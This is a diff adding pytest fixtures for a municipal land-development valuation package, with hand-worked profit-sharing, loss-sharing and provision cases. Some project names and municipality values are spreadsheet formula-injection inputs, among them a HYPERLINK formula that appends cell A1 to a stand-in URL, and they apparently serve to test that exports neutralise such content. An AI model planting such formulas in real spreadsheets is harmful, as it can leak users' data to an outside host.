@@ -96,3 +96,141 @@ def book(write_book):
         projects = projects or [project("A"), project("B")]
         return read_workbook(write_book(build_sheets(projects, cashflows, **extra)))
     return _book
+
+
+# --------------------------------------------------------------------------- obligations worked out by hand
+
+#: Valuation year of :func:`sharing_book`: the past is 2022-2024.
+SHARING_YEAR = 2025
+
+
+def sharing_sheets() -> dict[str, pd.DataFrame]:
+    """Five projects whose obligations are worked out by hand, at a 0 % cash-credit rate.
+
+    At 0 % every result is the plain sum of the flows, so the arithmetic stays on paper.
+    Valuation year V = 2025 (the past is 2022-2024).
+
+    Project W (Mechelen): winstdeling 40 % above a threshold of 50,000.
+        2022 verwerving 400,000 | 2023 infrastructuur 600,000 | 2024 verkoop 250,000
+        2025 verkoop 500,000    | 2026 verkoop 500,000
+        result = 1,250,000 - 1,000,000 = 250,000; above threshold 200,000; owed = 40 % = 80,000
+        POC(V) = (1,000,000 / 1,000,000) * (250,000 / 1,250,000) = 0.2 -> provision 16,000
+        POC at year ends: 2022 0.4 * 0 = 0 | 2023 1 * 0 = 0 | 2024 0.2 | 2025 1 * 750/1250 = 0.6 | 2026 1
+        provision closing: 0 | 0 | 16,000 | 48,000 | 80,000
+
+    Project Q (Mechelen): winstdeling 10 %, no threshold; the provision lands on half a cent.
+        2024 verwerving 300,000, verkoop 550,001.50 | 2025 infrastructuur 700,000, verkoop 550,001.50
+        result = 1,100,003 - 1,000,000 = 100,003; owed = 10,000.30
+        POC(V) = (300,000 / 1,000,000) * (550,001.50 / 1,100,003) = 0.3 * 0.5 = 0.15
+        provision = 10,000.30 * 0.15 = 1,500.045 -> half up 1,500.05 (Python's round() of the float
+        product gives 1,500.04)
+
+    Project L (Bonheiden): a loss, risicodeling 40 % capped at 150,000; its name looks like a formula.
+        2023 verwerving 1,000,000 | 2026 verkoop 500,000 -> result -500,000, loss 500,000
+        40 % = 200,000 > cap -> municipality 150,000, IGEMO 350,000 = write-down
+        book value at 1/1/2025 = 1,000,000 -> all of it on the stock
+
+    Project H (Bonheiden): a loss of 10.01 split 50/50 without cap.
+        2024 verwerving 100,000.01 | 2025 verkoop 99,990 -> result -10.01
+        50 % = 5.005 -> municipality 5.01 (half up), IGEMO 5.00
+
+    Project P (Putte): winstdeling 50 %, nothing sold yet.
+        2024 verwerving 100,000 | 2025 verkoop 200,000.01 -> result 100,000.01
+        owed = 50,000.005 -> 50,000.01; POC = 1 * 0 = 0 -> provision 0
+    """
+    projects = [
+        project("W", gemeente="Mechelen", winstdeling_gemeente_pct=40, winstdeling_drempel=50_000),
+        project("Q", gemeente="Mechelen", winstdeling_gemeente_pct=10),
+        project("L", gemeente="Bonheiden", naam="=HYPERLINK(\"http://x\")", risicodeling_gemeente_pct=40,
+                risicodeling_plafond=150_000),
+        project("H", gemeente="Bonheiden", risicodeling_gemeente_pct=50),
+        project("P", gemeente="Putte", winstdeling_gemeente_pct=50),
+    ]
+    cashflows = flows(
+        ("W", "prognose", 2022, "verwerving", 400_000), ("W", "prognose", 2023, "infrastructuur", 600_000),
+        ("W", "prognose", 2024, "verkoop", 250_000), ("W", "prognose", 2025, "verkoop", 500_000),
+        ("W", "prognose", 2026, "verkoop", 500_000),
+        ("Q", "prognose", 2024, "verwerving", 300_000), ("Q", "prognose", 2024, "verkoop", 550_001.50),
+        ("Q", "prognose", 2025, "infrastructuur", 700_000), ("Q", "prognose", 2025, "verkoop", 550_001.50),
+        ("L", "prognose", 2023, "verwerving", 1_000_000), ("L", "prognose", 2026, "verkoop", 500_000),
+        ("H", "prognose", 2024, "verwerving", 100_000.01), ("H", "prognose", 2025, "verkoop", 99_990),
+        ("P", "prognose", 2024, "verwerving", 100_000), ("P", "prognose", 2025, "verkoop", 200_000.01),
+    )
+    return build_sheets(projects, cashflows, flat_credit(rate=0.0))
+
+
+@pytest.fixture
+def sharing_book(write_book):
+    """``(portfolio, evaluation)`` of :func:`sharing_sheets` valued at :data:`SHARING_YEAR`."""
+    from igemo_fin.inputs.workbook import read_workbook
+    from igemo_fin.valuation.evaluate import evaluate
+
+    portfolio = read_workbook(write_book(sharing_sheets()))
+    return portfolio, evaluate(portfolio, valuation_year=SHARING_YEAR)
+
+
+def row_of(frame: pd.DataFrame, code: str) -> pd.Series:
+    """The row of project ``code`` in a per-project frame."""
+    return frame.set_index("project_code").loc[code]
+
+
+
+# --------------------------------------------------------------------------- the board pack's portfolios
+
+#: A project name that is a formula and markup at once.
+HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"klik") <b>Oud & Nieuw</b>'
+
+
+def allocated_portfolio():
+    """Four projects over 2018-2030, valued on 1/1/2024, with actual interest for 2020-2023.
+
+    - A: buys in 2019-2020, sells 2021-2027 (a plain IRR).
+    - B: a loss maker (negative IRR) running across the actual-interest years.
+    - C'1 (a quote in the code, so in the sheet reference): costs only, no IRR; its name is a
+      formula and markup, its municipality starts with '@'.
+    - D: finished in 2022.
+    2020 and 2024 are leap years (366 days); 2022's actual interest is 0.37 off whole euros.
+    """
+    from igemo_fin.exports.workbook_writer import workbook_bytes
+    from igemo_fin.inputs.workbook import read_workbook
+    from igemo_fin.valuation.evaluate import evaluate
+
+    V = 2024
+    sheets = build_sheets(
+        [project("A", startjaar=2019, eindjaar=2027),
+         project("B", startjaar=2020, eindjaar=2029, bestemming_zeker="nee", marktwaarde_huidige_staat=900_000),
+         project("C'1", naam=HOSTILE_NAME, gemeente="@Mechelen", startjaar=2021, eindjaar=2026),
+         project("D", status="afgerond", startjaar=2018, eindjaar=2022)],
+        flows(("A", "prognose", 2019, "verwerving", 2_000_000), ("A", "prognose", 2020, "infrastructuur", 1_500_000),
+              *[("A", "prognose", y, "verkoop", 700_000) for y in range(2021, 2028)],
+              ("B", "prognose", 2020, "verwerving", 3_000_000), ("B", "prognose", 2022, "studies", 250_000),
+              ("B", "prognose", 2024, "infrastructuur", 800_000),
+              *[("B", "prognose", y, "verkoop", 650_000) for y in range(2025, 2030)],
+              ("B", "prognose", 2027, "subsidies", 100_000),
+              ("C'1", "prognose", 2021, "verwerving", 400_000), ("C'1", "prognose", 2023, "studies", 60_000),
+              ("C'1", "prognose", 2026, "overige_kosten", 30_000),
+              ("D", "prognose", 2018, "verwerving", 900_000), ("D", "prognose", 2019, "infrastructuur", 300_000),
+              ("D", "prognose", 2021, "verkoop", 800_000), ("D", "prognose", 2022, "verkoop", 600_000)),
+        credit=flat_credit(2015, 2035, rate=3.0, rates={2022: 1.2, 2023: 4.1, 2024: 3.9, 2025: 3.6},
+                           actual={2020: 130_000, 2021: 180_500.25, 2022: 96_000.37, 2023: 301_234.56}),
+        drempels=thresholds(min_irr_pct=4.0),
+        instellingen=pd.DataFrame({"parameter": ["waarderingsjaar", "eigen_vermogen"], "waarde": [V, 5_000_000]}),
+    )
+    portfolio = read_workbook(workbook_bytes(sheets), filename="toegerekend.xlsx")
+    return portfolio, evaluate(portfolio)
+
+
+@pytest.fixture(scope="module")
+def pack_demo():
+    """``(portfolio, evaluation)`` of the demo workbook."""
+    from igemo_fin.inputs.workbook import read_workbook
+    from igemo_fin.valuation.evaluate import evaluate
+
+    portfolio = read_workbook(DEMO_WORKBOOK)
+    return portfolio, evaluate(portfolio)
+
+
+@pytest.fixture(scope="module")
+def pack_allocated():
+    """:func:`allocated_portfolio`."""
+    return allocated_portfolio()
